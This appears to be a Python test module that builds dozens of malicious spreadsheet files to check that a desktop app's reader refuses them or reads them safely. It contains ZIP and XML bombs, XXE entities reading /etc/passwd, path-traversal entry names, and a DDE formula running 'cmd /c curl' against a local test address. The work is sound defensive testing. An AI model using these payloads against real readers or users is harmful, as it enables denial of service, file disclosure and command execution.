"""Packed workbooks (xlsx, xlsm, xlsb, ods) made to harm: bombs, lies about sizes and places, definitions, strangers' addresses.

Each entry of ``BOOKS`` makes one file in a folder and names what must be said to it; "" for a file that is read.
The list is that of published attacks on ZIP and XML readers and of what made calamine abort or openpyxl hang.
"""

from __future__ import annotations

import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from hqd_desktop.exchange.reading.cells import column_letters
from tests.exchange.reading import making
from tests.exchange.reading.making import (
    MAIN,
    cell,
    row,
    shared_strings,
    sheet_xml,
    wide,
    xlsb_cell,
    xlsb_record,
    xlsb_row,
)
from tests.faults.packing import BZIP2, LZMA, WITH_AES, Part, plain, repeated, stored, write

type Make = Callable[[Path], Path]

MEGABYTE = 1 << 20
PLAIN = row(1, cell("A1", 1))
SHEET, STRINGS, STYLES, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
listener = "127.0.0.1:9"
"""Who would hear of it if an address in a file were asked for; a test puts its own ear here."""


def far() -> str:
    """An address that nobody may ask for."""
    return f"http://{listener}/x"


def parts(**changed: str | bytes | Part) -> list[Part]:
    """The entries of a small sound workbook; ``sheet``, ``strings``, ``styles``, ``book`` put another in its place."""
    own = {"sheet": SHEET, "strings": STRINGS, "styles": STYLES, "book": BOOK}
    made: dict[str, str | bytes | Part] = {**making.xlsx_parts(sheet_xml(PLAIN))}
    made |= {own.get(name, name): content for name, content in changed.items()}
    return [content if isinstance(content, Part) else plain(name, content) for name, content in made.items()]


def book(folder: Path, **changed: str | bytes | Part) -> Path:
    return write(folder / "a.xlsx", parts(**changed))


def bomb(folder: Path, name: str, again: bytes, times: int, whole: str) -> Path:
    """A part of which ``@`` in ``whole`` stands for so many repetitions."""
    before, after = whole.split("@")
    part = {"sheet": SHEET, "strings": STRINGS, "styles": STYLES, "book": BOOK}[name]
    return book(folder, **{name: repeated(part, before, again, times, after)})


def in_sheet(folder: Path, rows: str, before: str = "", after: str = "") -> Path:
    return book(folder, sheet=sheet_xml(rows, before, after))


def defined(definitions: str, used: str = "&a;") -> str:
    rows = row(1, f'<c r="A1" t="str"><v>{used}</v></c>')
    return f'<?xml version="1.0"?><!DOCTYPE x [{definitions}]><worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


LAUGHS = '<!ENTITY a "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 or str()};" * 10}">' for n in range(1, 10))
ANY_SHEET, ANY_STRINGS = sheet_xml("@"), shared_strings("@").replace("<si>@</si>", "@")
STYLED = f'<styleSheet xmlns="{MAIN}"><cellXfs count="1">@</cellXfs></styleSheet>'
TEXTS = "".join(row(n, cell(f"A{n}", 0, kind="s")) for n in range(1, 20_001))
_FORMULA = '<c r="{0}" t="str"><f>{1}</f><v>x</v></c>'


def table_rows() -> str:
    """A small table of projects."""
    head = row(
        1,
        *(
            cell(f"{letter}1", text)
            for letter, text in zip("ABC", ("项目编号", "项目名称", "总投资（亿元）"), strict=True)
        ),
    )
    return head + "".join(
        row(n, cell(f"A{n}", f"P{n}"), cell(f"B{n}", f"项目{n}"), cell(f"C{n}", n)) for n in range(2, 30)
    )


def linked(folder: Path) -> Path:
    """Everything by which a workbook can ask for an address: links, pictures, queries, formulas, templates."""
    relation = '<Relationship Id="r{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'
    kinds = ("externalLinkPath", "image", "hyperlink", "attachedTemplate", "oleObject", "connections")
    related = "".join(relation.format(n, kind, far()) for n, kind in enumerate(kinds))
    asked = [f'WEBSERVICE("{far()}")', f"cmd|' /c curl {far()}'!A1", f'HYPERLINK("{far()}")', f"'[{far()}]S'!A1"]
    cells = [_FORMULA.format(f"{letter}2", formula) for letter, formula in zip("ABCD", asked, strict=True)]
    package = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    more: dict[str, str | bytes | Part] = {
        "xl/worksheets/_rels/sheet1.xml.rels": package.format(related),
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": package.format(related),
        "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" name="q"><webPr url="{far()}"/></connection></connections>',
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600),
    }
    return book(folder, sheet=sheet_xml(PLAIN + row(2, *cells)), **more)


def garbage(folder: Path) -> Path:
    rows = xlsb_row(0) + xlsb_cell(6, 0, wide("x")) + random.Random(4).randbytes(40_000)
    return making.xlsb(folder / "a.xlsb", rows)


def doubled(folder: Path) -> Path:
    return write(folder / "a.xlsx", [*parts(), plain(SHEET, sheet_xml(row(1, cell("A1", 2))))])


def overlapping(folder: Path) -> Path:
    """Thousands of entries that all point to the same bytes, as in the better ZIP bomb."""
    made = parts()
    return write(folder / "a.xlsx", [*made, *(Part(f"xl/x{n}.xml", b"", 0, 0, at=0) for n in range(5000))])


def one_sheet_many_times(folder: Path) -> Path:
    """A thousand names for one large part: each would be read anew."""
    rows = "".join(row(n, cell(f"A{n}", n), cell(f"B{n}", n)) for n in range(1, 50_001))
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 1000))
    start = making.xlsx_parts(sheet_xml(PLAIN))[BOOK].partition("<sheets>")[0]
    return book(folder, sheet=sheet_xml(rows), book=f"{start}<sheets>{listed}</sheets></workbook>")


def many_sheets(folder: Path) -> Path:
    return making.xlsx(folder / "a.xlsx", *[sheet_xml(PLAIN)] * 5000)


def matryoshka(folder: Path) -> Path:
    inner = repeated("0.zip", "", bytes(MEGABYTE), 1024, "").packed
    for n in range(8):
        inner = write(folder / f"{n}.zip", [stored(f"{n}.zip", inner)]).read_bytes()
    return write(folder / "a.xlsx", [stored("[Content_Types].zip", inner)])


def lies(folder: Path, *, says: int = 100, method: int | None = None, flags: int = 0, times: int = 1024) -> Path:
    """A sheet of a gigabyte of which the directory says that it is small, packed otherwise, or encrypted."""
    before, after = ANY_SHEET.split("@")
    part = repeated(SHEET, before, b" " * MEGABYTE, times, after)
    part.said_size, part.flags = says, flags
    part.method = part.method if method is None else method
    return book(folder, sheet=part)


def other_name(folder: Path) -> Path:
    sheet = plain(SHEET, sheet_xml(PLAIN))
    sheet.local_name = "xl/worksheets/other1.xml"
    return book(folder, sheet=sheet)


def full(folder: Path) -> Path:
    """As many rows as a sheet has, three cells each: large, but what it says."""
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}"><v>1</v></c><c r="C{n}"><v>2</v></c></row>'
        for n in range(1, 1_048_577)
    )
    return in_sheet(folder, rows)


def wide_rows(folder: Path) -> Path:
    """Sixteen million equal cells: 300 MB of XML in a megabyte."""
    cells = "".join(f'<c r="{column_letters(n)}1"><v>1</v></c>' for n in range(16_000))
    again = "<row>" + cells.replace('1"><v>', '"><v>').replace(' r="', ' x="') + "</row>"
    return bomb(folder, "sheet", again.encode(), 1000, ANY_SHEET)


def xlsb_far(folder: Path) -> Path:
    rows = (
        xlsb_row(0)
        + xlsb_cell(5, 0, struct.pack("<d", 1))
        + xlsb_row(1_048_575)
        + xlsb_cell(5, 16_383, struct.pack("<d", 1))
    )
    return making.xlsb(folder / "a.xlsb", rows)


def xlsb_length(folder: Path) -> Path:
    """A record that says it has 268 MB, and a text of four billion characters."""
    return making.xlsb(folder / "a.xlsb", xlsb_row(0) + xlsb_cell(6, 0, b"\xff\xff\xff\xff") + b"\x06\xff\xff\xff\x7f")


def xlsb_merges(folder: Path) -> Path:
    one = xlsb_record(176, struct.pack("<IIII", 0, 1_048_575, 0, 16_383))
    return making.xlsb(folder / "a.xlsb", xlsb_row(0) + xlsb_cell(5, 0, struct.pack("<d", 1)), after=one * 150_000)


def table(inside: str) -> str:
    return f'<table:table table:name="a">{inside}</table:table>'


def ods(folder: Path, body: str, more: dict[str, str] | None = None) -> Path:
    return making.ods(folder / "a.ods", body, more=more)


def number(more: str = "") -> str:
    return f'<table:table-cell office:value-type="float" office:value="1" {more}/>'


def ods_bomb(folder: Path, again: bytes, times: int) -> Path:
    made = making.ods(folder / "b.ods", "@")
    with zipfile.ZipFile(made) as archive:
        before, after = archive.read("content.xml").decode().split("@")
    kind = stored("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
    return write(folder / "a.ods", [kind, repeated("content.xml", before, again, times, after)])


ROW = "<table:table-row {}>{}</table:table-row>"

BOOKS: dict[str, tuple[Make, str]] = {
    # --- size
    "1 GB in one cell": (lambda f: bomb(f, "sheet", b"x" * MEGABYTE, 1024, sheet_xml(row(1, cell("A1", "@")))), "a text of more than"),
    "2 GB of spaces": (lambda f: bomb(f, "sheet", b" " * MEGABYTE, 2048, sheet_xml(PLAIN + "@")), "a text of more than"),
    "2 GB of tags": (lambda f: bomb(f, "sheet", b"<x/>" * 1000, 500_000, sheet_xml(PLAIN + "@")), "unpacks to more than"),
    "1,048,576 rows of three": (full, ""),
    "20 million empty rows": (lambda f: bomb(f, "sheet", b"<row/>", 20_000_000, ANY_SHEET), "rows"),
    "16 million equal cells": (wide_rows, "?"),
    "10 million shared texts": (lambda f: bomb(f, "strings", b"<si><t>a</t></si>", 10_000_000, ANY_STRINGS), "texts"),
    "512 MB in a shared text": (lambda f: bomb(f, "strings", b"y" * MEGABYTE, 512, shared_strings("<t>@</t>")), "a text of more than"),
    "a shared text of 1 MB used 20,000 times": (lambda f: book(f, sheet=sheet_xml(TEXTS), strings=shared_strings("<t>" + "z" * MEGABYTE + "</t>")), "?"),
    "a shared text of 200 KB used 20,000 times": (lambda f: book(f, sheet=sheet_xml(TEXTS), strings=shared_strings("<t>" + "z" * 200_000 + "</t>")), "?"),
    "uniqueCount of four billion": (lambda f: book(f, strings=shared_strings("<t>a</t>", announced=4294967295)), "announces"),
    "a million styles": (lambda f: bomb(f, "styles", b'<xf numFmtId="10"/>', 1_000_000, STYLED), ""),
    "200,000 names": (lambda f: book(f, book=making.xlsx_parts(sheet_xml(PLAIN))[BOOK].replace("</sheets>", "</sheets><definedNames>" + "".join(f'<definedName name="n{n}">Sheet1!$A$1</definedName>' for n in range(200_000)) + "</definedNames>")), ""),
    "50,000 merges": (lambda f: in_sheet(f, PLAIN, after="<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 50_000 + "</mergeCells>"), ""),
    "200,000 merges": (lambda f: in_sheet(f, PLAIN, after="<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 200_000 + "</mergeCells>"), "merged blocks"),
    "a merge of the whole sheet": (lambda f: in_sheet(f, PLAIN, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), ""),
    "90,000 merges across a table": (lambda f: in_sheet(f, table_rows(), after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 90_000)) + "</mergeCells>"), ""),
    "5,000 sheets": (many_sheets, "5000 sheets"),
    "one sheet under 999 names": (one_sheet_many_times, "?"),
    # --- places
    "A1 and XFD1048576": (lambda f: in_sheet(f, PLAIN + row(1048576, cell("XFD1048576", 1))), "too far from A1"),
    "row 99,999,999": (lambda f: in_sheet(f, row(99999999, cell("A99999999", 1))), "which no sheet has"),
    "row of 400 digits": (lambda f: in_sheet(f, f'<row r="{"9" * 400}"><c r="A{"9" * 400}"><v>1</v></c></row>'), "which no sheet has"),
    "a dimension that lies": (lambda f: in_sheet(f, PLAIN, before='<dimension ref="A1:XFD1048576"/>'), ""),
    "columns beyond the last": (lambda f: in_sheet(f, row(1, cell("ZZZZ1", 1))), "?"),
    "16,384 columns hidden a million times": (lambda f: in_sheet(f, PLAIN, before="<cols>" + '<col min="1" max="16384" hidden="1"/>' * 300_000 + "</cols>"), "?"),
    # --- XML
    "billion laughs": (lambda f: book(f, sheet=defined(LAUGHS, "&a9;")), "XML definitions"),
    "quadratic growth": (lambda f: book(f, sheet=defined(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 100_000)), "XML definitions"),
    "a file of the system": (lambda f: book(f, sheet=defined('<!ENTITY a SYSTEM "file:///etc/passwd">')), "XML definitions"),
    "an outer DTD": (lambda f: book(f, sheet=sheet_xml(PLAIN).replace("<worksheet", f'<!DOCTYPE x SYSTEM "{far()}"><worksheet', 1)), "XML definitions"),
    "parameter entities in the workbook": (lambda f: book(f, book=f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{far()}"> %a;]>' + making.xlsx_parts(sheet_xml(PLAIN))[BOOK]), "XML definitions"),
    "definitions in styles": (lambda f: book(f, styles='<!DOCTYPE x [<!ENTITY a "b">]><styleSheet/>'), "XML definitions"),
    "definitions in relations": (lambda f: book(f, **{"_rels/.rels": '<!DOCTYPE x [<!ENTITY a "b">]>' + making.xlsx_parts(sheet_xml(PLAIN))["_rels/.rels"]}), "XML definitions"),
    "a million elements deep": (lambda f: in_sheet(f, PLAIN + "<a>" * 1_000_000 + "</a>" * 1_000_000), "?"),
    "a million attributes": (lambda f: in_sheet(f, PLAIN + "<x " + "".join(f'a{n}="1" ' for n in range(1_000_000)) + "/>"), "?"),
    "an attribute of 40 MB": (lambda f: bomb(f, "sheet", b"x" * MEGABYTE, 40, sheet_xml(PLAIN + '<x a="@"/>')), "a text of more than"),
    "comments that never end": (lambda f: bomb(f, "sheet", b"<!-- ", 4_000_000, sheet_xml(PLAIN + "@")), "?"),
    "cells that never end": (lambda f: bomb(f, "sheet", b'<c r="A1" ', 4_000_000, sheet_xml(PLAIN + "@")), "?"),
    "formulas that never end": (lambda f: bomb(f, "sheet", b'<c r="A1"><f', 2_000_000, sheet_xml(PLAIN + "@")), "?"),
    "errors that never end": (lambda f: bomb(f, "sheet", b'<c r="A1" t="e"><v>', 2_000_000, sheet_xml(PLAIN + "@")), "?"),
    "shared texts that never end": (lambda f: book(f, sheet=sheet_xml(row(1, cell("A1", 0, kind="s"))), strings=repeated(STRINGS, f'<sst xmlns="{MAIN}">', b"<si><t>", 500_000, "</sst>")), "?"),
    "a sheet in UTF-16": (lambda f: book(f, sheet=sheet_xml(PLAIN).replace("UTF-8", "UTF-16").encode("utf-16")), "its XML is broken"),
    "a sheet in UTF-7": (lambda f: book(f, sheet=sheet_xml(PLAIN).replace("UTF-8", "UTF-7").encode("utf-7")), "its XML is broken"),
    # --- packing
    "a ZIP in a ZIP in a ZIP": (matryoshka, "is a ZIP archive"),
    "a part given twice": (doubled, "twice"),
    "overlapping parts": (overlapping, "?"),
    "a part at an absolute place": (lambda f: book(f, **{"/etc/passwd": "x", "C:\\Windows\\x.dll": "x"}), ""),
    "a part above its folder": (lambda f: book(f, **{"../../../../tmp/hqd-hostile": "x", "..\\..\\x": "x"}), ""),
    "marked as encrypted": (lambda f: lies(f, says=100, flags=1, times=1), "password"),
    "encrypted by AES": (lambda f: lies(f, says=100, flags=1, method=WITH_AES, times=1), "password"),
    "an unknown way of packing": (lambda f: lies(f, method=97, times=1), "packing"),
    "bzip2": (lambda f: lies(f, method=BZIP2, times=1), "packing"),
    "lzma": (lambda f: lies(f, method=LZMA, times=1), "packing"),
    "1 GB that says 100 bytes": (lies, "packing"),
    "1 GB that says 12 MB": (lambda f: lies(f, says=12 * MEGABYTE), "?"),
    "another name inside": (other_name, "?"),
    "60,000 parts": (lambda f: book(f, **{f"x/{n}.xml": "" for n in range(60_000)}), "parts"),
    "a directory that ends early": (lambda f: write(f / "a.xlsx", parts(), count=3), "?"),
    "a comment that looks like an end": (lambda f: write(f / "a.xlsx", parts(), comment=b"PK\x05\x06" * 16_000), "?"),
    "a program before the ZIP": (lambda f: write(f / "a.xlsx", parts(), before=b"PK\x03\x04" + bytes(400)), "packing"),
    "a name of 60 KB": (lambda f: book(f, **{"x" * 60_000: "x"}), ""),
    # --- others
    "links, pictures, queries, macros": (linked, ""),
    "xlsb: garbage behind a cell": (garbage, "?"),
    "xlsb: the far corner": (xlsb_far, "?"),
    "xlsb: lengths that lie": (xlsb_length, "?"),
    "xlsb: 150,000 merges": (xlsb_merges, "merged blocks"),
    "ods: repeated columns and rows": (lambda f: ods(f, table(ROW.format('table:number-rows-repeated="1048576"', number('table:number-columns-repeated="16384"')))), "too far from A1"),
    "ods: many repeated rows": (lambda f: ods(f, table(ROW.format('table:number-rows-repeated="9000"', number('table:number-columns-repeated="1000"')) * 200)), "?"),
    "ods: a text repeated four million times": (lambda f: ods(f, table(ROW.format('table:number-rows-repeated="4000"', f'<table:table-cell table:number-columns-repeated="1000" office:value-type="string"><text:p>{"长" * 30_000}</text:p></table:table-cell>'))), "?"),
    "ods: spaces without end": (lambda f: ods(f, table(ROW.format("", "<table:table-cell><text:p>" + '<text:s text:c="99999999"/>' * 100_000 + "</text:p></table:table-cell>"))), "?"),
    "ods: spans without end": (lambda f: ods(f, table(ROW.format("", number('table:number-columns-spanned="16384" table:number-rows-spanned="1048576"') * 16_000))), "?"),
    "ods: a million elements deep": (lambda f: ods(f, table(ROW.format("", "<text:span>" * 1_000_000 + "</text:span>" * 1_000_000))), "?"),
    "ods: tables within tables": (lambda f: ods(f, "<table:table>" * 200_000 + "</table:table>" * 200_000), "?"),
    "ods: 1 GB": (lambda f: ods_bomb(f, b"<table:table/>" * 1000, 80_000), "?"),
    "ods: definitions": (lambda f: write(f / "a.ods", [stored("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), plain("content.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')]), "XML definitions"),
    "ods: encrypted": (lambda f: ods(f, "", {"META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'}), "password"),
    "ods: pictures and links": (lambda f: ods(f, table(ROW.format("", f'<table:table-cell office:value-type="string"><text:p><text:a xmlns:x="http://www.w3.org/1999/xlink" x:href="{far()}">a</text:a></text:p></table:table-cell>')) + f'<table:table table:name="b"><table:table-source xmlns:x="http://www.w3.org/1999/xlink" x:href="{far()}"/></table:table>'), ""),
}  # fmt: skip
"""What must be said; "?" for a file that may be refused or read, as long as it does no harm."""
